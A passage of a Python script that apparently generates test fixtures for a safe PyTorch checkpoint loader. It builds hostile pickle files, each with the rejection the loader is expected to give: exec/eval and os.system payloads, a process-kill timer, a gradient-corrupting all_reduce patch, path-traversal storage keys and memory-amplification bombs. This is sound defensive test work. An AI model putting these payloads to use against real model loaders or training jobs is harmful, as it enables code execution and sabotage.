        pickle_of(call(glob("argparse", "Namespace"), evil)), "nested", "forbidden_global",
        "builtins.eval", policy="checkpoint", what="eval as argparse.Namespace argument")
    add("nested_set.pt", state_dict_zip(extra=[("s", call(glob("builtins", "set"), lst(evil)))]),
        "nested", "forbidden_global", "builtins.eval", what="eval inside builtins.set([...])")
    add("nested_frozenset_opcode.pkl",
        pickle_of(MARK + integer(1) + ex + FROZENSET, 4), "nested", "forbidden_global",
        "builtins.exec", what="exec inside a FROZENSET")
    add("nested_dict_key.pt",
        state_dict_zip(extra=[("k", dct([(tup(evil), integer(1))]))]), "nested",
        "forbidden_global", "builtins.eval", what="eval inside a tuple dict key")
    add("nested_counter.pt",
        state_dict_zip(extra=[("c", call(glob("collections", "Counter"), str_dict(
            [("a", ex)])))]), "nested", "forbidden_global", "builtins.exec",
        what="exec inside a Counter")
    add("nested_device.pt",
        state_dict_zip(extra=[("d", call(glob("torch", "device"), evil))]), "nested",
        "forbidden_global", "builtins.eval", what="torch.device(eval(...))")
    add("nested_size.pt",
        state_dict_zip(extra=[("s", call(glob("torch", "Size"), lst(evil)))]), "nested",
        "forbidden_global", "builtins.eval", what="torch.Size([eval(...)])")
    add("nested_complex.pt",
        state_dict_zip(extra=[("c", call(glob("builtins", "complex"), evil))]), "nested",
        "forbidden_global", "builtins.eval", what="complex(eval(...))")
    add("nested_codecs_then_loads.pkl",
        pickle_of(call(glob("_codecs", "encode"), binunicode("\x80\x02cos\nsystem\n."),
                       binunicode("latin1")) + glob("pickle", "loads") + b""),
        "nested", "forbidden_global", "pickle.loads",
        what="_codecs.encode manufactures bytes for pickle.loads")
    deep = evil
    for _ in range(200):
        deep = lst(deep)
    add("nested_deep_list.pt", state_dict_zip(extra=[("deep", deep)]), "nested",
        "forbidden_global", "builtins.eval", what="eval 200 lists deep")


def training_sabotage():
    kill = call(glob("builtins", "exec"), binunicode(KILL_TIMER))
    patch_ar = call(glob("builtins", "exec"), binunicode(ALL_REDUCE_PATCH))
    add("sabotage_kill_timer_state_dict.pt", state_dict_zip(extra=[("_extra_state", kill)]),
        "training_sabotage", "forbidden_global", "builtins.exec",
        what="state dict whose value execs threading.Timer(7, os.kill(getpid, SIGKILL))")
    add("sabotage_kill_timer_build_metadata.pt",
        torch_zip(pickle_of(ordered_dict([("fc.weight", tensor("0", (2, 3)))])
                            + str_dict([("_metadata", kill)]) + BUILD), {"0": float_bytes(6)}),
        "training_sabotage", "forbidden_global", "builtins.exec",
        what="kill timer hidden in the state_dict's _metadata BUILD")
    add("sabotage_kill_timer_stack_global.pt",
        state_dict_zip(extra=[("x", short_binunicode("builtins") + short_binunicode("exec")
                               + STACK_GLOBAL + binunicode(KILL_TIMER) + TUPLE1 + REDUCE)],
                       protocol=4),
        "training_sabotage", "forbidden_global", "builtins.exec",
        what="kill timer through STACK_GLOBAL")
    add("sabotage_kill_timer_legacy_sysinfo.pt",
        state_dict_legacy(sys_info=pickle_of(str_dict([("protocol_version", integer(1001)),
                                                       ("little_endian", kill)]))),
        "training_sabotage", "forbidden_global", "builtins.exec",
        what="kill timer in the legacy stream's sys_info pickle")
    add("sabotage_kill_timer_first_value.pt",
        torch_zip(pickle_of(ordered_dict([("a", kill), ("fc.weight", tensor("0", (2, 3)))])),
                  {"0": float_bytes(6)}),
        "training_sabotage", "forbidden_global", "builtins.exec",
        what="kill timer before any tensor")
    add("sabotage_all_reduce_exec.pt", state_dict_zip(extra=[("_hook", patch_ar)]),
        "training_sabotage", "forbidden_global", "builtins.exec",
        what="execs code that monkey-patches torch.distributed.all_reduce to corrupt gradients")
    add("sabotage_all_reduce_setattr.pt",
        state_dict_zip(extra=[("_hook", call(
            glob("builtins", "setattr"),
            call(glob("importlib", "import_module"), binunicode("torch.distributed")),
            binunicode("all_reduce"),
            call(glob("builtins", "eval"), binunicode(
                "lambda t, *a, **k: t.mul_(-1.0)"))))]),
        "training_sabotage", "forbidden_global", "builtins.setattr",
        what="setattr(torch.distributed, 'all_reduce', eval(lambda)) without exec")
    add("sabotage_all_reduce_legacy_magic.pt",
        state_dict_legacy(magic=pickle_of(call(glob("builtins", "exec"),
                                               binunicode(ALL_REDUCE_PATCH)))),
        "training_sabotage", "forbidden_global", "builtins.exec",
        what="all_reduce patch run in place of the legacy magic number")
    add("sabotage_all_reduce_parameter_state.pt",
        one_tensor_zip(call(glob("torch._utils", "_rebuild_parameter"),
                            tensor("0", (6,)), NEWTRUE, ordered_dict())
                       + str_dict([("grad_fn", patch_ar)]) + BUILD, {"0": float_bytes(6)}),
        "training_sabotage", "forbidden_global", "builtins.exec",
        what="all_reduce patch in a Parameter's BUILD state")


# ---------------------------------------------------------------- persistent ids
def persistent_ids():
    def pid_zip(pid_body, records=None):
        return one_tensor_zip(pid_body, records or {})

    add("pid_string.pt", pid_zip(binunicode("../../etc/passwd") + BINPERSID), "persistent_id",
        "malformed", "not a storage tuple", what="persistent id is a string")
    add("pid_int.pt", pid_zip(integer(0) + BINPERSID), "persistent_id", "malformed",
        "not a storage tuple", what="persistent id is an int")
    add("pid_text_persid.pt", pid_zip(b"P0\n"), "persistent_id", "malformed",
        "not a storage tuple", what="protocol-0 PERSID")
    add("pid_module_tuple.pt",
        pid_zip(tup(binunicode("module"), binunicode("Net"), binunicode("net.py"),
                    binunicode("class Net: pass")) + BINPERSID),
        "persistent_id", "malformed", "only persistent ids of storages",
        what="legacy ('module', ...) source-check persistent id")
    add("pid_module_tuple_global.pt",
        pid_zip(tup(binunicode("module"), glob("__main__", "Net"), binunicode("net.py"),
                    binunicode("")) + BINPERSID),
        "persistent_id", "forbidden_global", "__main__.Net",
        what="('module', __main__.Net, ...)")
    add("pid_storage_class_forbidden.pt",
        pid_zip(tup(binunicode("storage"), glob("os", "system"), binunicode("0"),
                    binunicode("cpu"), integer(1)) + BINPERSID),
        "persistent_id", "forbidden_global", "os.system", what="storage type os.system")
    add("pid_storage_class_allowed_other.pt",
        pid_zip(tup(binunicode("storage"), glob("collections", "OrderedDict"), binunicode("0"),
                    binunicode("cpu"), integer(1)) + BINPERSID),
        "persistent_id", "malformed", "storage type in a persistent id",
        what="storage type is an allowed non-storage global")
    add("pid_storage_class_quantized.pt",
        pid_zip(storage_pid("0", 4, cls="QUInt4x2Storage"), {"0": b"\0" * 4}),
        "persistent_id", "unsupported", "no safetensors dtype",
        what="packed 4-bit quantized storage class")
    add("pid_negative_numel.pt", pid_zip(storage_pid("0", -1)), "persistent_id", "malformed",
        "wrong types", what="numel -1")
    add("pid_int_key.pt",
        pid_zip(tup(binunicode("storage"), glob("torch", "FloatStorage"), integer(0),
                    binunicode("cpu"), integer(1)) + BINPERSID, {"0": b"\0" * 4}),
        "persistent_id", "malformed", "wrong types", what="storage key is an int")
    add("pid_four_fields.pt",
        pid_zip(tup(binunicode("storage"), glob("torch", "FloatStorage"), binunicode("0"),
                    binunicode("cpu")) + BINPERSID),
        "persistent_id", "malformed", "fields", what="4-field storage pid")
    add("pid_six_fields_in_zip.pt", pid_zip(storage_pid("0", 1, legacy=True), {"0": b"\0" * 4}),
        "persistent_id", "malformed", "fields", what="legacy 6-field pid in a zip")
    add("pid_traversal_key.pt", pid_zip(storage_pid("../../../../etc/passwd", 1)),
        "persistent_id", "malformed", "is missing", what="storage key with ../")
    add("pid_nul_key.pt", pid_zip(storage_pid("0\x00evil", 1), {"0": b"\0" * 4}),
        "persistent_id", "malformed", "storage record data/0?evil",
        what="storage key with NUL (shown as '?' in the message, which goes on past it)")
    add("pid_key_names_data_pkl.pt", pid_zip(storage_pid("../data.pkl", 1)),
        "persistent_id", "malformed", "is missing",
        what="storage key pointing at data.pkl itself")
    add("pid_plain_pickle.pkl", pickle_of(storage_pid("0", 1)), "persistent_id", "unsupported",
        "persistent id in a plain pickle", what="BINPERSID in a bare pickle")
    add("pid_bare_storage_value.pt", pid_zip(storage_pid("0", 1), {"0": b"\0" * 4}),
        "persistent_id", "unsupported", "bare storage",
        what="a storage object as a value, not inside a tensor")
    add("pid_legacy_view_metadata.pt",
        legacy_stream(pickle_of(str_dict([("t", rebuild_v2(
            tup(binunicode("storage"), glob("torch", "FloatStorage"), binunicode("0"),
                binunicode("cpu"), integer(6),
                tup(binunicode("1"), integer(0), integer(6))) + BINPERSID, 0, (6,)))])),
                      [("0", 6, float_bytes(6))]),
        "persistent_id", "unsupported", "view_metadata", what="pre-0.4 legacy storage view")
    add("pid_legacy_five_fields.pt",
        legacy_stream(pickle_of(str_dict([("t", tensor("0", (6,)))])), [("0", 6, float_bytes(6))]),
        "persistent_id", "malformed", "fields", what="zip-style 5-field pid in a legacy stream")
    add("pid_legacy_early_pickle.pt",
        state_dict_legacy(protocol=pickle_of(storage_pid("0", 1))),
        "persistent_id", "unsupported", "persistent id",
        what="persistent id in the legacy protocol-version pickle")


# ---------------------------------------------------------------- TorchScript
def torchscript():
    pkl = pickle_of(ordered_dict([("w", tensor("0", (6,)))]))
    rec = {"0": float_bytes(6)}
    ts_code = b"def forward(self, x):\n    return torch.ops.aten.system('id')\n"
    add("ts_constants_pkl.pt",
        torch_zip(pkl, rec, extra=[("archive/constants.pkl", pickle_of(EMPTY_TUPLE),
                                    zipfile.ZIP_STORED)]),
        "torchscript", "unsupported", "TorchScript", what="archive with constants.pkl")
    add("ts_code_dir.pt",
        torch_zip(pkl, rec, extra=[("archive/code/__torch__/model.py", ts_code,
                                    zipfile.ZIP_STORED)]),
        "torchscript", "unsupported", "TorchScript", what="archive with code/")
    add("ts_bytecode_pkl.pt",
        torch_zip(pkl, rec, extra=[("archive/bytecode.pkl", pickle_of(EMPTY_TUPLE),
                                    zipfile.ZIP_STORED)]),
        "torchscript", "unsupported", "TorchScript", what="mobile archive with bytecode.pkl")
    add("ts_full_jit_layout.pt",
        zip_bytes([("model/data.pkl", pickle_of(call(glob("__torch__", "Model"), EMPTY_TUPLE)),
                    zipfile.ZIP_STORED),
                   ("model/code/__torch__.py", ts_code, zipfile.ZIP_STORED),
                   ("model/constants.pkl", pickle_of(EMPTY_TUPLE), zipfile.ZIP_STORED),
                   ("model/.data/version", b"6\n", zipfile.ZIP_STORED)]),
        "torchscript", "unsupported", "TorchScript", what="torch.jit.save layout")
    add("ts_constants_no_data_pkl.pt",
        zip_bytes([("m/constants.pkl", pickle_of(EMPTY_TUPLE), zipfile.ZIP_STORED),
                   ("m/version", b"3\n", zipfile.ZIP_STORED)]),
        "torchscript", "unsupported", "TorchScript", what="constants.pkl only")
    add("ts_torch_global_no_markers.pt",
        torch_zip(pickle_of(call(glob("__torch__.model", "Net"), EMPTY_TUPLE)), {}),
        "torchscript", "forbidden_global", "__torch__.model.Net",
        what="TorchScript class global in an ordinary data.pkl")
    add("ts_deflated_constants.pt",
        torch_zip(pkl, rec, extra=[("archive/constants.pkl", pickle_of(EMPTY_TUPLE) * 50,
                                    zipfile.ZIP_DEFLATED)]),
        "torchscript", "unsupported", "TorchScript", what="deflated constants.pkl")
    add("ts_not_a_checkpoint.pt",
        zip_bytes([("m/readme.txt", b"hello", zipfile.ZIP_STORED)]), "torchscript",
        "unsupported", "data.pkl", what="zip without data.pkl")


# ---------------------------------------------------------------- legacy streams
def legacy():
    ev = call(glob("builtins", "eval"), binunicode("0x1950a86a20f9469cfc6c"))
    add("legacy_magic_eval.pt", state_dict_legacy(magic=pickle_of(ev)), "legacy",
        "forbidden_global", "builtins.eval", what="magic number produced by eval")
    add("legacy_protocol_system.pt",
        state_dict_legacy(protocol=pickle_of(call(glob("os", "system"), binunicode("id")))),
        "legacy", "forbidden_global", "os.system", what="payload in the protocol-version pickle")
    add("legacy_sysinfo_exec.pt",
        state_dict_legacy(sys_info=pickle_of(call(glob("builtins", "exec"), binunicode("1")))),
        "legacy", "forbidden_global", "builtins.exec", what="payload in sys_info")
    add("legacy_keys_pickle_global.pt",
        state_dict_legacy(keys_pickle=pickle_of(call(glob("subprocess", "call"),
                                                     binunicode("id")))),
        "legacy", "forbidden_global", "subprocess.call", what="payload in the storage-key list")
    add("legacy_protocol_1000.pt", state_dict_legacy(protocol=pickle_of(integer(1000))),
        "legacy", "unsupported", "1001", what="protocol version 1000")
    add("legacy_wrong_magic.pt",
        state_dict_legacy(magic=pickle_of(long1(LEGACY_MAGIC + 1))), "legacy", "malformed",
        "after the pickle's STOP", what="near-miss magic: a plain pickle with trailing bytes")
    add("legacy_magic_as_int.pt", state_dict_legacy(magic=pickle_of(integer(1950))),
        "legacy", "malformed", "after the pickle's STOP", what="magic as a small int")
    storages = [("0", 6, float_bytes(6)), ("1", 2, float_bytes(2, 1))]
    pairs = [(name, tensor(str(i), shape, legacy=True)) for i, (name, shape) in enumerate(W)]
    main = pickle_of(ordered_dict(pairs))
    add("legacy_count_mismatch.pt",
        legacy_stream(main, [("0", 7, float_bytes(7)), ("1", 2, float_bytes(2))]),
        "size_lie", "malformed", "elements but its persistent id declares",
        what="legacy element count larger than the pid's numel")
    add("legacy_count_negative.pt",
        legacy_stream(main, [("0", -1, float_bytes(6)), ("1", 2, float_bytes(2))]),
        "size_lie", "malformed", "elements", what="legacy element count -1")
    add("legacy_data_truncated.pt", legacy_stream(main, storages)[:-5], "size_lie", "malformed",
        "runs past the end", what="last storage cut short")
    add("legacy_trailing_bytes.pt", legacy_stream(main, storages, tail=b"\x80\x02cos\nsystem\n."),
        "legacy", "malformed", "bytes after its last storage",
        what="a hidden pickle after the last storage")
    add("legacy_unknown_key.pt",
        legacy_stream(main, storages + [("9", 1, float_bytes(1))]), "legacy", "malformed",
        "not used by the pickle", what="key list names a storage no tensor declared")
    add("legacy_key_twice.pt",
        legacy_stream(main, [storages[0], storages[0], storages[1]]), "legacy", "malformed",
        "appears twice", what="same storage listed twice")
    add("legacy_missing_storage.pt", legacy_stream(main, storages[:1]), "legacy", "malformed",
        "has no data", what="a declared storage never written")
    add("legacy_keys_not_list.pt",
        legacy_stream(main, storages, keys_pickle=pickle_of(str_dict([("0", NONE)]))),
        "legacy", "malformed", "not a list", what="key list is a dict")
    add("legacy_key_not_str.pt",
        legacy_stream(main, storages, keys_pickle=pickle_of(lst(integer(0), integer(1)))),
        "legacy", "malformed", "not a str", what="storage keys are ints")
    add("legacy_dtype_conflict.pt",
        legacy_stream(pickle_of(ordered_dict([
            ("a", tensor("0", (6,), legacy=True)),
            ("b", tensor("0", (3,), cls="LongStorage", legacy=True))])),
            [("0", 6, float_bytes(6))]),
        "size_lie", "malformed", "declared twice", what="one key, two dtypes")
    add("legacy_laughs_main.pt",
        legacy_stream(pickle_of(laughs_body()), []), "amplification", "too_large", "max_objects",
        what="billion laughs in the legacy main pickle")
    add("legacy_only_magic.pt", pickle_of(long1(LEGACY_MAGIC)), "truncation", "malformed",
        "without STOP", what="legacy stream that stops after the magic")


# ---------------------------------------------------------------- size lies
def size_lies():
    def tz(value, records):
        return one_tensor_zip(value, records)

    add("size_record_short.pt", tz(tensor("0", (6,)), {"0": float_bytes(5)}), "size_lie",
        "malformed", "holds 20 bytes but its persistent id declares 24",
        what="storage record shorter than numel x element size")
    add("size_record_long.pt", tz(tensor("0", (6,)), {"0": float_bytes(8)}), "size_lie",
        "malformed", "holds 32 bytes but its persistent id declares 24",
        what="storage record longer than declared")
    add("size_record_empty_numel_huge.pt", tz(tensor("0", (1,), numel=10**9), {"0": b""}),
        "size_lie", "malformed", "declares 4000000000",
        what="CVE-2026-24747 shape: numel 1e9 over an empty record")
    add("size_record_missing.pt", tz(tensor("0", (6,)), {}), "size_lie", "malformed",
        "is missing", what="no data/0 record")
    add("size_numel_overflow.pt", tz(tensor("0", (1,), numel=2**62), {"0": b"\0" * 4}),
        "size_lie", "malformed", "overflow", what="numel 2^62 x 4 bytes overflows")
    add("size_numel_overflow_double.pt",
        tz(tensor("0", (1,), cls="DoubleStorage", numel=2**61), {"0": b"\0" * 8}), "size_lie",
        "malformed", "overflow", what="numel 2^61 x 8 bytes = 2^64")
    add("size_numel_4tib.pt", tz(tensor("0", (1,), numel=2**40), {"0": b"\0" * 4}), "size_lie",
        "too_large", "above the output limit", what="numel 2^40 floats = 4 TiB")
    add("size_numel_bigint.pt", tz(tensor("0", (1,), numel=long1(2**70)), {"0": b"\0" * 4}),
        "size_lie", "malformed", "wrong types", what="numel as a 9-byte LONG1")
    add("size_view_offset_oob.pt",
        tz(rebuild_v2(storage_pid("0", 6), 5, (2,)), {"0": float_bytes(6)}), "size_lie",
        "malformed", "tensor view reaches byte 28", what="offset 5 + 2 elements > 6")
    add("size_view_shape_oob.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, (3, 3)), {"0": float_bytes(6)}), "size_lie",
        "malformed", "tensor view reaches", what="3x3 view of 6 elements")
    add("size_view_stride_oob.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, (2, 3), (4, 1)), {"0": float_bytes(6)}),
        "size_lie", "malformed", "tensor view reaches", what="stride walks past the storage")
    add("size_view_huge_offset.pt",
        tz(rebuild_v2(storage_pid("0", 6), 2**62, (1,)), {"0": float_bytes(6)}), "size_lie",
        "malformed", "overflow", what="offset 2^62 elements overflows bytes")
    add("size_view_offset_2e60.pt",
        tz(rebuild_v2(storage_pid("0", 6), 2**60, (1,)), {"0": float_bytes(6)}), "size_lie",
        "malformed", "tensor view reaches", what="offset 2^60: no overflow, still out of bounds")
    add("size_negative_offset.pt",
        tz(rebuild_v2(storage_pid("0", 6), -1, (1,)), {"0": float_bytes(6)}), "size_lie",
        "malformed", "storage offset", what="offset -1")
    add("size_negative_size.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, size_bytes=int_tuple((-1,)), stride=(1,)),
           {"0": float_bytes(6)}), "size_lie", "malformed", "negative", what="size -1")
    add("size_negative_stride.pt",
        tz(rebuild_v2(storage_pid("0", 6), 5, (6,), stride_bytes=int_tuple((-1,))),
           {"0": float_bytes(6)}), "size_lie", "malformed", "negative",
        what="stride -1 (reverse view)")
    add("size_stride_2e63.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, (2,), stride_bytes=tup(long1(2**63))),
           {"0": float_bytes(6)}), "size_lie", "malformed", "non-integer",
        what="stride 2^63 does not fit int64 (a 9-byte LONG1)")
    add("size_stride_overflow.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, (5,), stride_bytes=tup(long1(2**62))),
           {"0": float_bytes(6)}), "size_lie", "malformed", "overflow",
        what="(size-1) x stride overflows")
    add("size_numel_product_overflow.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, (2**32, 2**32, 2), (0, 0, 0)),
           {"0": float_bytes(6)}), "size_lie", "malformed", "overflow",
        what="size product overflows uint64")
    add("size_rank_mismatch.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, (2, 3), (1,)), {"0": float_bytes(6)}),
        "size_lie", "malformed", "different lengths", what="size and stride of different rank")
    add("size_rank_65.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, (1,) * 65), {"0": float_bytes(6)}), "size_lie",
        "too_large", "max_ndim", what="65 dimensions")
    add("size_size_not_tuple.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, size_bytes=integer(6), stride=(1,)),
           {"0": float_bytes(6)}), "size_lie", "malformed", "not a tuple", what="size is an int")
    add("size_size_float.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, size_bytes=tup(b"G" + struct.pack(">d", 6.0)),
                      stride=(1,)), {"0": float_bytes(6)}), "size_lie", "malformed",
        "non-integer", what="size holds a float")
    add("size_dtype_conflict_same_bytes.pt",
        torch_zip(pickle_of(ordered_dict([("a", tensor("0", (6,))),
                                          ("b", tensor("0", (3,), cls="LongStorage"))])),
                  {"0": float_bytes(6)}),
        "size_lie", "malformed", "declared twice with different types",
        what="one key as FloatStorage x6 then LongStorage x3 (same 24 bytes)")
    add("size_numel_conflict.pt",
        torch_zip(pickle_of(ordered_dict([("a", tensor("0", (6,))),
                                          ("b", tensor("0", (1,), numel=1000))])),
                  {"0": float_bytes(6)}),
        "size_lie", "malformed", "declared twice", what="one key, two numels")
    add("size_v3_dtype_on_typed.pt",
        tz(call(glob("torch._utils", "_rebuild_tensor_v3"), storage_pid("0", 6), integer(0),
                int_tuple((3,)), int_tuple((1,)), NEWFALSE, ordered_dict(),
                glob("torch", "float64")), {"0": float_bytes(6)}),
        "size_lie", "malformed", "views it as float64", what="v3 reinterprets a typed storage")
    add("size_v3_untyped_oob.pt",
        tz(call(glob("torch._utils", "_rebuild_tensor_v3"),
                storage_pid("0", 12, cls="UntypedStorage", module="torch.storage"), integer(0),
                int_tuple((2,)), int_tuple((1,)), NEWFALSE, ordered_dict(),
                glob("torch", "float64")), {"0": b"\0" * 12}),
        "size_lie", "malformed", "tensor view reaches", what="2 float64 over 12 untyped bytes")
    add("size_byteorder_bad.pt", state_dict_zip(byteorder=b"middle"), "size_lie", "malformed",
        "byteorder", what="byteorder record says middle")
    add("size_byteorder_long.pt", state_dict_zip(byteorder=b"little" * 100), "size_lie",
        "malformed", "byteorder record is too long", what="600-byte byteorder record")
    add("size_math_bit_conj.pt",
        tz(rebuild_v2(storage_pid("0", 6), 0, (6,), metadata=str_dict([("conj", NEWTRUE)])),
           {"0": float_bytes(6)}), "size_lie", "unsupported", "math bit",
        what="conjugate view bit")


# ---------------------------------------------------------------- type confusion
def type_confusion():
    t = tensor("0", (6,))
    rec = {"0": float_bytes(6)}
    add("tc_setitems_on_tensor.pt",
        one_tensor_zip(t + MARK + integer(0) + integer(0x41414141) + SETITEMS, rec),
        "type_confusion", "malformed", "SETITEM(S) on a tensor",
        what="CVE-2026-24747 step 3: SETITEMS on a tensor")
    add("tc_setitem_on_tensor.pt",
        one_tensor_zip(t + integer(8) + integer(1) + SETITEM, rec), "type_confusion",
        "malformed", "SETITEM(S) on a tensor", what="SETITEM on a tensor")
    add("tc_append_on_tensor.pt", one_tensor_zip(t + integer(1) + APPEND, rec),
        "type_confusion", "malformed", "APPEND(S) on a tensor", what="APPEND on a tensor")
    add("tc_appends_on_dict.pkl", pickle_of(EMPTY_DICT + MARK + integer(1) + APPENDS),
        "type_confusion", "malformed", "APPEND(S) on a dict", what="APPENDS on a dict")
    add("tc_setitem_on_tuple.pkl", pickle_of(EMPTY_TUPLE + integer(1) + integer(2) + SETITEM),
        "type_confusion", "malformed", "SETITEM(S) on a tuple", what="SETITEM on a tuple")
    add("tc_setitem_on_global.pkl",
        pickle_of(glob("collections", "OrderedDict") + binunicode("__init__") + NONE + SETITEM),
        "type_confusion", "malformed", "SETITEM(S) on a global",
        what="SETITEM on a global (module mutation)")
    add("tc_setitem_on_storage.pt",
        one_tensor_zip(storage_pid("0", 6) + integer(0) + integer(1) + SETITEM, rec),
        "type_confusion", "malformed", "SETITEM(S) on a storage", what="SETITEM on a storage")
    add("tc_additems_on_frozenset.pkl",
        pickle_of(MARK + FROZENSET + MARK + integer(1) + ADDITEMS, 4), "type_confusion",
        "malformed", "ADDITEMS", what="ADDITEMS on a frozenset")
    add("tc_build_on_tensor_tuple.pt",
        one_tensor_zip(t + tup(storage_pid("0", 6), integer(0), int_tuple((100,)),
                               int_tuple((1,))) + BUILD, rec),
        "type_confusion", "forbidden_global", "BUILD on a tensor",
        what="legacy Tensor.__setstate__ (set_) with an oversized view")
    add("tc_build_on_list.pkl", pickle_of(EMPTY_LIST + EMPTY_DICT + BUILD), "type_confusion",
        "forbidden_global", "BUILD on a list", what="BUILD on a list")
    add("tc_build_twice_record.pkl",
        pickle_of(glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD
                  + EMPTY_DICT + BUILD), "type_confusion", "malformed", "BUILD twice",
        policy="checkpoint", what="two BUILDs on one record")
    add("tc_reduce_on_string.pkl", pickle_of(binunicode("os.system") + EMPTY_TUPLE + REDUCE),
        "type_confusion", "malformed", "REDUCE on a str", what="REDUCE on a string")
    add("tc_reduce_args_not_tuple.pkl",
        pickle_of(glob("collections", "OrderedDict") + EMPTY_LIST + REDUCE), "type_confusion",
        "malformed", "not a tuple", what="REDUCE with a list of arguments")
    add("tc_reduce_on_tensor.pt", one_tensor_zip(t + EMPTY_TUPLE + REDUCE, rec),
        "type_confusion", "malformed", "REDUCE on a tensor", what="calling a tensor")
    add("tc_parameter_of_string.pt",
        one_tensor_zip(call(glob("torch._utils", "_rebuild_parameter"), binunicode("x"),
                            NEWTRUE, ordered_dict()), {}),
        "type_confusion", "malformed", "Parameter data", what="Parameter of a str")
    add("tc_rebuild_wrong_arity.pt",
        one_tensor_zip(call(glob("torch._utils", "_rebuild_tensor_v2"), storage_pid("0", 6)),
                       rec), "type_confusion", "malformed", "called with 1 arguments",
        what="rebuild with one argument")
    add("tc_storage_arg_is_int.pt",
        one_tensor_zip(rebuild_v2(integer(7), 0, (1,)), {}), "type_confusion", "malformed",
        "not a storage", what="storage argument is an int")
    add("tc_tuple_no_mark.pkl", b"\x80\x02t.", "type_confusion", "malformed", "MARK",
        what="TUPLE without MARK")
    add("tc_pop_empty.pkl", b"\x80\x020N.", "type_confusion", "malformed", "stack underflow",
        what="POP on an empty stack")
    add("tc_reduce_empty.pkl", b"\x80\x02R.", "type_confusion", "malformed", "stack underflow",
        what="REDUCE on an empty stack")
    add("tc_stop_two_values.pkl", b"\x80\x02NN.", "type_confusion", "malformed",
        "values on the stack", what="STOP with two values")
    add("tc_stop_empty.pkl", b"\x80\x02.", "type_confusion", "malformed", "values on the stack",
        what="STOP with an empty stack")
    add("tc_stop_open_mark.pkl", b"\x80\x02N(.", "type_confusion", "malformed", "unclosed MARK",
        what="STOP with an open MARK")
    add("tc_pop_through_mark.pkl", b"\x80\x02N(\x85.", "type_confusion", "malformed",
        "stack underflow", what="TUPLE1 reaching below a MARK")
    add("tc_unhashable_key_cycle.pkl", pickle_of(EMPTY_DICT + binput(0) + binget(0) + integer(1)
                                                 + SETITEM), "type_confusion", "malformed",
        "contains itself", what="dict used as its own key")
    add("tc_codecs_non_latin1.pkl",
        pickle_of(call(glob("_codecs", "encode"), binunicode("\u0100"), binunicode("latin1"))),
        "type_confusion", "malformed", "not Latin-1", what="_codecs.encode outside Latin-1")
    add("tc_codecs_other_encoding.pkl",
        pickle_of(call(glob("_codecs", "encode"), binunicode("x"), binunicode("rot13"))),
        "type_confusion", "unsupported", "latin1", what="_codecs.encode with another codec")
    add("tc_quantized_rebuild.pt",
        one_tensor_zip(call(glob("torch._utils", "_rebuild_qtensor"), storage_pid("0", 6)), rec),
        "type_confusion", "malformed", "called with 1 arguments",
        what="quantized tensor rebuild with only a storage")
    add("tc_sparse_rebuild.pt",
        one_tensor_zip(call(glob("torch._utils", "_rebuild_sparse_tensor"), NONE, NONE), {}),
        "type_confusion", "unsupported", "sparse layout None",
        what="sparse tensor rebuild whose layout is None")
    add("tc_tensor_under_tuple_key.pt",
        one_tensor_zip(dct([(tup(integer(1)), t)]), rec), "type_confusion", "unsupported",
        "cannot name it", what="tensor stored under a tuple key")


# ---------------------------------------------------------------- amplification
def laughs_body(levels=10, width=9, dup=False, leaf=None):
    """Level k is a list of `width` references to level k-1, kept only in the memo."""
    body = (leaf or short_binunicode("lol")) + binput(0) + POP
    for level in range(levels):
        refs = binget(level) + DUP * (width - 1) if dup else binget(level) * width
        body += MARK + refs + LIST + binput(level + 1) + POP
    return body + binget(levels)


def amplification():
    one = {"0": float_bytes(1)}
    add("amp_stride0_petabytes.pt",
        one_tensor_zip(rebuild_v2(storage_pid("0", 1), 0, (2**20, 2**20, 2**10), (0, 0, 0)), one),
        "amplification", "too_large", "max_output_bytes",
        what="a 4-byte storage expanded to 4 PiB through stride 0")
    add("amp_stride0_2tib.pt",
        one_tensor_zip(rebuild_v2(storage_pid("0", 1), 0, (2**29, 2**10), (0, 0)), one),
        "amplification", "too_large", "max_output_bytes", what="stride-0 expansion to 2 TiB")
    add("amp_stride0_two_600gib.pt",
        torch_zip(pickle_of(ordered_dict([
            ("a", rebuild_v2(storage_pid("0", 1), 0, (150 * 2**20, 2**10), (0, 0))),
            ("b", rebuild_v2(storage_pid("1", 1), 0, (150 * 2**20, 2**10), (0, 0)))])),
            {"0": float_bytes(1), "1": float_bytes(1)}),
        "amplification", "too_large", "exceeds max_output_bytes",
        what="two 600 GiB stride-0 views: each under 1 TiB, together over")
    add("amp_stride0_8gib_capped.pt",
        one_tensor_zip(rebuild_v2(storage_pid("0", 1), 0, (2**21, 2**10), (0, 0)), one),
        "amplification", "too_large", "max_output_bytes",
        limits={"max_output_bytes": 256 << 20},
        what="8 GiB stride-0 expansion against a 256 MiB output cap")
    storage = {"0": float_bytes(1 << 16)}
    views = [(f"v{i}", rebuild_v2(storage_pid("0", 1 << 16), i, ((1 << 16) - 4096,)))
             for i in range(4000)]
    add("amp_4000_distinct_views.pt", torch_zip(pickle_of(ordered_dict(views)), storage),
        "amplification", "too_large", "max_output_bytes", limits={"max_output_bytes": 64 << 20},
        what="4000 distinct 240 KiB views of one 256 KiB storage (~1 GB out), 64 MiB cap")
    many = [(f"t{i}", tensor("0", (1,))) for i in range(1001)]
    add("amp_tensor_count.pt",
        torch_zip(pickle_of(ordered_dict(many)), {"0": float_bytes(1)}), "amplification",
        "too_large", "max_tensors", limits={"max_tensors": 1000}, what="1001 tensors, cap 1000")
    add("amp_laughs_binget.pkl", pickle_of(laughs_body()), "amplification", "too_large",
        "max_objects", what="billion laughs through BINPUT/BINGET (10^10 leaves)")
    add("amp_laughs_dup.pkl", pickle_of(laughs_body(dup=True)), "amplification", "too_large",
        "max_objects", what="billion laughs through DUP")
    add("amp_laughs_in_ordered_dict.pt", state_dict_zip(extra=[("lol", laughs_body())]),
        "amplification", "too_large", "max_objects",
        what="laughs inside an allowlisted OrderedDict (globalLaughs)")
    wide = short_binunicode("x") + binput(0) + EMPTY_LIST \
